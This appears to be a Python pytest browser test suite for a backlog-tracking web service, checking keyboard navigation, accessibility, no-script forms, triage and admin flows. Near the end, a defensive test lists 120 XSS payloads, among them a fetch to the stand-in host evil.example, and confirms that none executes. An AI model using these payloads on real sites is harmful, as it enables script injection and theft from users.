"""
The pages in Debian's Chromium, served by the real service: what people see, press and drag, with and without script.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from msgspec import Struct

from backlog_store import open_backlog
from backlog_store.backlog import Backlog
from backlog_store.model import Draft
from backlog_store.query import live
from backlog_store.testing.postgres import PostgresServer
from tests.system.browsing import Served, Visitor, browser, filled

#: Every page that stands by itself; `{id}` is an item, `{run}` a run that waits.
PAGES = (
    "/now", "/triage", "/items", "/items?q=nothing-has-this-word", "/board", "/dashboard", "/sources", "/runs",
    "/plans", "/items/new", "/items/{id}", "{run}", "/api", "/people", "/people/ben", "/tokens", "/tokens/ruff",
    "/webhooks", "/webhooks/chat", "/account", "/now/new", "/now/returned",
)  # fmt: skip

Visit = Callable[..., Visitor]


class Place(Struct):
    """
    A served store.
    """

    store: str
    url: str

    def backlog(self) -> Backlog:
        """
        Return the store itself, beside the service.
        """
        return open_backlog(self.store, actor="scanner")

    def added(self, title: str) -> str:
        """
        Return the id of a new item.
        """
        with self.backlog() as backlog:
            return backlog.create(Draft(title=title, service="web", priority="P0")).id

    def item(self, id: str) -> Any:
        """
        Return an item as it is stored.
        """
        with self.backlog() as backlog:
            return backlog.get(id)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    """
    The system's browser.
    """
    with browser() as one:
        yield one


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def place(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """
    A served store with something of everything in it.
    """
    folder = tmp_path_factory.mktemp("served")
    if request.param == "sqlite":
        yield from _served(f"sqlite:///{folder}/backlog.db", folder)
    else:
        with PostgresServer() as server:
            yield from _served(server.create_database(), folder)


@pytest.fixture(params=["sqlite", "postgres"])
def hostile(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """
    The URL of a store full of texts that would be scripts.
    """
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path}/hostile.db"
    else:
        with PostgresServer() as server:
            yield server.create_database()


def _served(store: str, folder: Path) -> Iterator[Place]:
    filled(store)
    with Served(store, folder) as served:
        yield Place(store=store, url=served.url)


@pytest.fixture
def visit(chromium: Any, request: pytest.FixtureRequest) -> Iterator[Visit]:
    """
    A function that opens a browser session on a service; each must have nothing to complain of at the end.
    """
    visitors: list[Visitor] = []

    def come(place: Place, **how: Any) -> Visitor:
        visitors.append(Visitor(chromium, place.url, **how))
        return visitors[-1]

    yield come
    for visitor in visitors:
        visitor.close()


def pages(place: Place) -> list[str]:
    """
    Return the path of every page.
    """
    with place.backlog() as backlog:
        [run] = [id for id, one in backlog.runs() if one.state == "parked"]
    return [path.format(id=first(place), run=f"/runs/{run}") for path in PAGES]


def first(place: Place) -> str:
    """
    Return the id of the most urgent item.
    """
    with place.backlog() as backlog:
        return backlog.search(live(), limit=1)[0].id


@pytest.mark.parametrize("script", [True, False], ids=["script", "no-script"])
def test_every_page_loads_from_here_alone(place: Place, visit: Visit, *, script: bool) -> None:
    """
    Each page comes with no word on the console and no request to anybody else, and has one heading of its own.
    """
    visitor = visit(place, script=script)
    for path in pages(place):
        page = visitor.go(path)
        assert page.locator("h1").count() == 1, path


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_page_is_accessible(place: Place, visit: Visit, scheme: str) -> None:
    """
    Axe finds nothing wrong, light and dark.
    """
    visitor = visit(place, scheme=scheme)
    found = {}
    for path in pages(place):
        visitor.go(path)
        found[path] = visitor.violations()
    assert {path: wrong for path, wrong in found.items() if wrong} == {}


def test_keys_of_a_list(place: Place, visit: Visit) -> None:
    """
    Help, filter, walking, selecting, opening, and each key on a row that opens its field on the item's page.
    """
    page = visit(place).go("/items")
    page.keyboard.press("?")
    assert page.locator("#help").is_visible()
    page.keyboard.press("Escape")
    assert not page.locator("#help").is_visible()
    page.keyboard.press("/")
    assert focused(page) == "q"
    page.keyboard.press("Escape")
    for key in "jjk":
        page.keyboard.press(key)
    rows = page.locator("tr[data-href]")
    assert rows.nth(0).get_attribute("class") == "here"
    page.keyboard.press("x")
    assert rows.nth(0).locator("input").is_checked()
    assert page.locator(".picked").inner_text() == "With the 1 selected:"
    target = rows.nth(0).get_attribute("data-href")
    page.keyboard.press("e")
    page.wait_for_url(f"**{target}#e")
    page.wait_for_function("document.activeElement.id === 'title'")
    page.go_back()
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url("**/items/bl_*")
    page.keyboard.press("c")
    page.wait_for_url("**/items/new")


@pytest.mark.parametrize(
    ("key", "field"),
    [
        ("p", "priority"),
        ("a", "owner"),
        ("d", "due"),
        ("m", "comment"),
        ("e", "title"),
        ("l", "reason"),
        ("z", "until"),
    ],
)
def test_keys_of_an_item(place: Place, visit: Visit, key: str, field: str) -> None:
    """
    Each key leads to its field.
    """
    page = visit(place).go(f"/items/{first(place)}")
    page.keyboard.press(key)
    assert focused(page) == field


def test_a_move_by_key_is_undone_by_key(place: Place, visit: Visit) -> None:
    """
    `s` moves the item on, `u` sets it back.
    """
    id = place.added("Moved by key")
    page = visit(place).go(f"/items/{id}")
    page.keyboard.press("s")
    page.wait_for_url("**did=updated**")
    assert place.item(id).status == "in_progress"
    page.keyboard.press("u")
    page.wait_for_function("!document.querySelector('.status.in_progress')")
    assert place.item(id).status == "open"


def test_keys_lead_from_page_to_page(place: Place, visit: Visit) -> None:
    """
    `g` and a letter open each page that the head names; single keys can be switched off for good.
    """
    page = visit(place).go(f"/items/{first(place)}")
    pairs = page.locator("[data-go]").evaluate_all("links => links.map(one => [one.dataset.go, one.pathname])")
    for key, path in pairs:
        page.keyboard.press("g")
        page.keyboard.press(key)
        page.wait_for_url(f"**{path}")
    page.keyboard.press("?")
    page.locator("#keys-off").check()
    page.keyboard.press("Escape")
    page.reload()
    page.keyboard.press("?")
    assert not page.locator("#help").is_visible()


@pytest.mark.parametrize("dialog", ["help", "palette"])
def test_a_key_right_behind_a_closed_dialog_is_not_lost(place: Place, visit: Visit, dialog: str) -> None:
    """
    What was closed has the focus until the page is drawn again; a key that comes before goes to the page.
    """
    page = visit(place).go("/items")
    page.evaluate(
        """id => {
          const dialog = document.getElementById(id);
          dialog.showModal();
          dialog.close();
          const key = new KeyboardEvent("keydown", {key: "/", bubbles: true, cancelable: true});
          dialog.querySelector("input").dispatchEvent(key);
        }""",
        dialog,
    )
    assert focused(page) == "q"


def test_the_palette_finds_pages_and_words(place: Place, visit: Visit) -> None:
    """
    Ctrl K, a few letters and Enter open a page; anything else is looked for.
    """
    page = visit(place).go("/items")
    page.keyboard.press("Control+k")
    page.keyboard.type("dashb")
    page.keyboard.press("Enter")
    page.wait_for_url("**/dashboard")
    page.keyboard.press("Control+k")
    page.keyboard.type("certificate")
    page.keyboard.press("Enter")
    page.wait_for_url("**/items?q=certificate")
    assert page.locator("tr[data-href]").count() > 0


def test_everything_is_done_without_script(place: Place, visit: Visit) -> None:
    """
    Adding, editing, moving, commenting, snoozing, closing, reopening and undoing are plain forms.
    """
    page = visit(place, script=False).go("/items/new")
    page.fill("#new-title", "By hand")
    page.fill("#new-due_date", "+3d")
    page.click("text=Add")
    page.wait_for_url("**/items/bl_*")
    id = re.search(r"bl_\w+", page.url)[0]  # type: ignore[index]
    page.click("summary:has-text('Edit')")
    page.fill("#owner", "ben")
    page.click("button:has-text('Save')")
    page.click("button:has-text('Start')")
    page.fill("#comment", "On it.")
    page.click("button:has-text('Comment')")
    page.click("summary:has-text('Snooze')")
    page.fill("#until", "+2d")
    page.click("form[action$=snooze] button")
    page.click("summary:has-text('Close')")
    page.select_option("#reason", "wont_fix")
    page.click("button:has-text('Close the item')")
    assert place.item(id).closed_reason == "wont_fix"
    page.click("button:has-text('Undo')")
    item = place.item(id)
    assert (item.status, item.owner, item.closed_reason, bool(item.wake_at)) == ("in_progress", "ben", "", True)


@pytest.mark.parametrize("script", [True, False], ids=["script", "no-script"])
def test_several_are_changed_as_previewed(place: Place, visit: Visit, *, script: bool) -> None:
    """
    Selected rows are previewed, then changed, then set back.
    """
    ids = [place.added(f"Of many {n}") for n in range(2)]
    page = visit(place, script=script).go("/items?q=many")
    for id in ids:
        page.check(f"tr[data-id={id}] input")
    page.select_option("#bulk-verb", "edit")
    page.select_option("select[name=priority]", "P3")
    page.click("button:has-text('Preview')")
    assert "2 of 2 items would change" in page.locator("h1").inner_text()
    page.click("button:has-text('Do it for 2')")
    assert [place.item(id).priority for id in ids] == ["P3", "P3"]
    page.click("button:has-text('Undo')")
    assert [place.item(id).priority for id in ids] == ["P0", "P0"]


def test_the_board_by_keyboard(place: Place, visit: Visit) -> None:
    """
    `>` moves the current card to the next column and `<` back.
    """
    id = place.added("Slides")
    page = visit(place).go("/board?q=slides")
    for key, status in ((">", "in_progress"), (">", "blocked"), ("<", "in_progress")):
        page.locator(f".card[data-id={id}] > p > a").focus()
        page.keyboard.press(key)
        page.wait_for_selector(f".cards[data-status={status}] .card[data-id={id}]")
        page.wait_for_load_state()
        assert place.item(id).status == status
        assert page.evaluate("document.activeElement.closest('.card')?.dataset.id") == id


def test_the_board_by_dragging(place: Place, visit: Visit) -> None:
    """
    A card that is dropped in another column is moved there, and stays.
    """
    id = place.added("Dragged")
    page = visit(place).go("/board?q=dragged")
    card = page.locator(f".card[data-id={id}]")
    lane = page.locator(".cards[data-status=in_progress]")
    with page.expect_navigation():
        card.drag_to(lane)
    assert place.item(id).status == "in_progress"
    page.wait_for_selector(f".cards[data-status=in_progress] .card[data-id={id}]")


def test_a_card_is_decided_by_one_key(place: Place, visit: Visit) -> None:
    """
    A key decides, the next card comes, and `u` sets it back.
    """
    ids = [place.added(f"Undecided {n}") for n in range(3)]
    page = visit(place).go("/triage?q=undecided")
    seen = []
    for key in "az":
        seen.append(page.locator("article.one").get_attribute("data-id"))
        page.keyboard.press(key)
        page.wait_for_function("id => document.querySelector('article.one')?.dataset.id !== id", arg=seen[-1])
        page.wait_for_load_state()
    assert {page.locator("article.one").get_attribute("data-id"), *seen} == set(ids)
    assert (place.item(seen[0]).tags, bool(place.item(seen[1]).wake_at)) == (("triaged",), True)
    page.keyboard.press("u")
    page.wait_for_function("id => document.querySelector('article.one')?.dataset.id === id", arg=seen[1])
    assert not place.item(seen[1]).wake_at


@pytest.mark.parametrize("script", [True, False], ids=["script", "no-script"])
def test_a_decision_leads_the_focus_to_the_next_card(place: Place, visit: Visit, *, script: bool) -> None:
    """
    What has the focus is the next card's title, described by what became of the last one; nothing jumps, keys go on.
    """
    ids = {place.added(f"Led {script} {n}") for n in range(3)}
    page = visit(place, script=script, width=1000).go(f"/triage?q=led+{script}")
    for _ in ids:
        before = page.locator("main").bounding_box()
        card = page.locator("article.one").get_attribute("data-id")
        page.locator("button[data-key=a]").focus()
        with page.expect_navigation():
            page.keyboard.press("a" if script else "Enter")
        assert place.item(card).tags == ("triaged",)
        led = page.evaluate("""() => {
          const one = document.activeElement;
          const about = document.getElementById(one.getAttribute("aria-describedby"));
          return [one.tagName, one.innerText.trim(), about.innerText];
        }""")
        assert led == ["H1", page.locator("h1").inner_text().strip(), "Changed."]
        assert page.evaluate("scrollY") == 0
        assert page.locator("main").bounding_box()["y"] == before["y"]
    assert page.locator("h1").inner_text() == "Nothing waits"


@pytest.mark.parametrize("path", ["/items?q=watched", "/board?q=watched", "/items/{id}"])
def test_what_others_change_is_told_and_moves_nothing(place: Place, visit: Visit, path: str) -> None:
    """
    Another session changes an item: the page says so, its rows stay where they are, and show it when asked.
    """
    id = place.added("Watched")
    page = visit(place).go(path.format(id=id))
    before = page.locator("[data-id]").evaluate_all("rows => rows.map(row => row.getBoundingClientRect().top)")
    other = visit(place, script=False).go(f"/items/{id}")
    other.click("summary:has-text('Edit')")
    other.fill("#title", "Watched and changed")
    other.click("button:has-text('Save')")
    page.wait_for_selector("#news:not([hidden])")
    assert "changed" in page.locator("#news").inner_text()
    after = page.locator("[data-id]").evaluate_all("rows => rows.map(row => row.getBoundingClientRect().top)")
    assert after == before
    page.click("#news button")
    page.wait_for_selector("text=Watched and changed")


def test_on_paper_there_is_nothing_to_press(place: Place, visit: Visit) -> None:
    """
    A page in print keeps its heading, text and links; no control, no navigation, nothing that scrolls, no row in two.
    """
    visitor = visit(place, scheme="dark", width=700)
    for path in pages(place):
        page = visitor.go(path)
        page.emulate_media(media="print")
        for what in ("button", "input", "select", "textarea", "header.top", ".pages", ".facets"):
            shown = page.locator(f"{what}:visible").evaluate_all("all => all.map(one => one.outerHTML)")
            assert shown == [], path
        assert page.locator("h1").is_visible(), path
        assert page.evaluate("getComputedStyle(document.documentElement).color") == "rgb(0, 0, 0)"
        rows = page.locator("tbody tr, .card, .diff li")
        assert set(rows.evaluate_all("rows => rows.map(row => getComputedStyle(row).breakInside)")) <= {"avoid"}, path
        cut = "all => all.filter(one => one.scrollHeight > one.clientHeight + 1).length"
        assert page.locator(".cards, .diff, .wide").evaluate_all(cut) == 0, path
        page.emulate_media(media="screen")


def test_texts_run_in_their_own_direction(place: Place, visit: Visit) -> None:
    """
    A title from right to left ends at its left, on a page that does not, and takes nothing beside it along.
    """
    with place.backlog() as backlog:
        id = backlog.create(Draft(title="שגיאה (web)!", service="חיפוש", owner="אבי", priority="P0", tags=("עברית",),
                                  description="שלום!\n\nHello!")).id  # fmt: skip
    left_of = """([selector, text]) => {
      const range = document.createRange();
      const walker = document.createTreeWalker(document.querySelector(selector), NodeFilter.SHOW_TEXT);
      for (let node; (node = walker.nextNode());) {
        const at = node.data.indexOf(text);
        if (at < 0) continue;
        range.setStart(node, at);
        range.setEnd(node, at + text.length);
        return range.getBoundingClientRect().left;
      }
      throw new Error(`no ${text} in ${selector}`);
    }"""
    titles = {
        "/items?q=service:חיפוש": f"tr[data-id={id}] .title a",
        "/board?q=service:חיפוש": f".card[data-id={id}] a",
        "/triage?q=service:חיפוש": "main h1",
        f"/items/{id}": "main h1",
    }
    for path, title in titles.items():
        page = visit(place).go(path)
        assert page.evaluate(left_of, [title, "!"]) < page.evaluate(left_of, [title, "שגיאה"]), path
        if path.startswith("/board"):
            below = f".card[data-id={id}] .small"
            assert page.evaluate(left_of, [below, "חיפוש"]) < page.evaluate(left_of, [below, "אבי"])
    page = visit(place).go(f"/items/{id}")
    assert page.evaluate(left_of, [".text", "!"]) < page.evaluate(left_of, [".text", "שלום"])
    assert page.evaluate(left_of, [".text p:last-child", "!"]) > page.evaluate(left_of, [".text p:last-child", "Hello"])


def test_what_is_selected_stays_so_when_news_are_shown(place: Place, visit: Visit) -> None:
    """
    Rows stay selected, the current one stays so, and nothing moves under the pointer until the page is shown anew.
    """
    ids = [place.added(f"Kept {n}") for n in range(4)]
    page = visit(place).go("/items?q=kept")
    for id in ids[1:3]:
        page.check(f"tr[data-id={id}] input")
    page.locator(f"tr[data-id={ids[2]}] .title a").focus()
    page.hover(f"tr[data-id={ids[1]}]")
    under = "document.querySelector('tr:hover').dataset.id"
    with place.backlog() as backlog:
        for id in (ids[0], ids[1]):
            backlog.acting_as("ben", person=True).edit(id, title=f"Renamed, and kept {id}", priority="P1")
    page.wait_for_selector(f"tr.stale[data-id={ids[1]}]")
    assert page.evaluate(under) == ids[1]
    with page.expect_navigation():
        page.click("#news button")
    page.wait_for_selector(f"tr.here[data-id={ids[2]}]")
    chosen = page.locator("tr:has(input:checked)").evaluate_all("rows => rows.map(row => row.dataset.id)")
    assert set(chosen) == set(ids[1:3])
    assert page.evaluate("document.activeElement.closest('tr').dataset.id") == ids[2]
    assert page.locator(".picked").inner_text() == "With the 2 selected:"
    assert page.locator("text=Renamed, and kept").count() == 2


@pytest.mark.parametrize("script", [True, False], ids=["script", "no-script"])
def test_an_admin_lets_in_and_turns_out(place: Place, visit: Visit, *, script: bool) -> None:
    """
    A person is added and removed, a token issued, shown once, rotated and revoked, each after a second look.
    """
    name = f"dan-{script}".lower()
    page = visit(place, script=script).go("/people")
    page.click("summary:has-text('Add a person')")
    page.fill("#new-name", name)
    page.select_option("#new-role", "worker")
    page.fill("#new-services", "web\ndb")
    page.click("button:has-text('Add'):visible")
    page.wait_for_url(f"**/people/{name}?**")
    assert "service web, db" in page.locator("dl.fields").inner_text()
    assert not page.locator("button:has-text('Remove')").is_visible()
    page.click(f"summary:has-text('Remove {name}')")
    page.click(f"button:has-text('Remove {name}')")
    page.wait_for_url("**/people?**")
    assert page.locator(f"a:text-is('{name}')").count() == 0
    page.goto("/tokens")
    page.click("summary:has-text('Issue a token')")
    page.fill("#new-name", name)
    page.click("button:has-text('Issue')")
    first = page.locator("#secret").input_value()
    assert first.startswith("blt_")
    page.click("summary:has-text('New secret')")
    page.click("button:has-text('Make a new secret')")
    page.wait_for_function("first => document.querySelector('#secret')?.value !== first", arg=first)
    page.goto(f"/tokens/{name}")
    assert page.locator("#secret").count() == 0
    page.click(f"summary:has-text('Revoke {name}')")
    page.click(f"button:has-text('Revoke {name}')")
    page.wait_for_selector("h1 .late:has-text('revoked')")


@pytest.mark.parametrize("script", [True, False], ids=["script", "no-script"])
def test_what_is_new_is_told_until_it_is_marked_as_seen(place: Place, visit: Visit, *, script: bool) -> None:
    """
    Looking moves nothing, the button does, and what comes then is counted and listed.
    """
    page = visit(place, script=script).go("/now")
    page.click("button:has-text('Mark as seen')")
    page.wait_for_selector(".since:has-text('Nothing is new')")
    place.added("Seen for the first time")
    for _ in range(2):
        page.reload()
        page.click(".since a:has-text('new')")
        page.wait_for_url("**/now/new")
        assert page.locator("tr[data-href]").count() == 1
        page.go_back()


@pytest.mark.parametrize("script", [True, False], ids=["script", "no-script"])
def test_a_webhook_is_tried_and_paused(place: Place, visit: Visit, *, script: bool) -> None:
    """
    A ping that nobody takes says why; pausing and going on are one button each.
    """
    page = visit(place, script=script).go("/webhooks/chat")
    page.click("button:has-text('Send a ping')")
    page.wait_for_selector("text=No ping was delivered")
    page.click("button:has-text('Pause')")
    page.wait_for_selector("h1 .late:has-text('paused')")
    page.click("button:has-text('Go on')")
    page.wait_for_selector("button:has-text('Pause')")


#: Ways to smuggle a script into a page, and what the script would do.
WAYS = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "</title><script>{0}</script>", "</textarea><script>{0}</script>",
    "</script><script>{0}</script>", "--><script>{0}</script>", '"><script>{0}</script>', "'><script>{0}</script>",
    "<img src=x onerror={0}>", "<img src=x onerror='{0}'>", '"><img src=x onerror="{0}">', "<svg onload={0}>",
    "<svg/onload={0}>", "<svg><script>{0}</script></svg>", "<body onload={0}>", "<iframe src=javascript:{0}>",
    "<iframe srcdoc='<script>{0}</script>'>", "<a href=javascript:{0}>x</a>", "[x](javascript:{0})",
    "[x](java\tscript:{0})", "[x](&#106;avascript:{0})", "[x](JAVASCRIPT:{0})", "<javascript:{0}>",
    "![x](javascript:{0})", '![x](x"onerror="{0})', "[x](x 'onclick={0} x')", "[a]: javascript:{0}\n\n[a]",
    "[x](data:text/html,<script>{0}</script>)", "<details open ontoggle={0}>", "<input autofocus onfocus={0}>",
    '" autofocus onfocus="{0}', "' autofocus onfocus='{0}", "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>", "<link rel=import href=javascript:{0}>",
    "<base href=javascript:{0}//>", "{{{{ {0} }}}}",
    "<math><mtext></p><script>{0}</script>", "<style>@import 'javascript:{0}'</style>",
    "<form action=javascript:{0}><button autofocus>x</button></form>",
)  # fmt: skip
DOES = ("alert(1)", "xss(1)", "fetch(`//evil.example/`)")
HOSTILE = tuple(way.format(does) for way, does in itertools.product(WAYS, DOES))


def test_stored_text_never_becomes_a_script(visit: Visit, hostile: str, tmp_path: Path) -> None:
    """
    None of 120 payloads in titles, descriptions, tags, comments, evidence, keys and services runs on any page.
    """
    assert len(HOSTILE) == 120
    with open_backlog(hostile, actor="mallory") as backlog:
        ids = [backlog.create(_hostile(text)).id for text in HOSTILE]
        for id, text in zip(ids, HOSTILE, strict=True):
            backlog.comment(id, text)
    with Served(hostile, tmp_path) as served:
        visitor = visit(Place(store=hostile, url=served.url))
        visitor.context.expose_binding("xss", lambda *_: visitor.ran.append("xss"))
        lists = ["/now", "/triage", "/items?limit=200", "/board", "/dashboard", "/sources"]
        for path in [*lists, *(f"/items/{id}" for id in ids)]:
            page = visitor.go(path)
            assert page.locator("main :is(script, iframe, object, embed, style, base, link, img)").count() == 0, path
            links = page.locator("main a").evaluate_all(
                "links => links.map(one => new URL(one.href.baseVal ?? one.href, location.href).protocol)"
            )
            assert set(links) <= {"http:", "https:", "mailto:"}, path
        visitor.close()  # before the service ends


def _hostile(text: str) -> Draft:
    line = " ".join(text.split())
    evidence = {"urls": [text], "notes": text}
    return Draft(title=line, description=text, service=line[:100], dedupe_key=line, tags=(line[:90],), fix=line,
                 category=line[:60], meta={"x": text}, evidence_refs=evidence)  # fmt: skip


def focused(page: Any) -> str:
    """
    Return the id of what has the focus.
    """
    return str(page.evaluate("document.activeElement.id"))
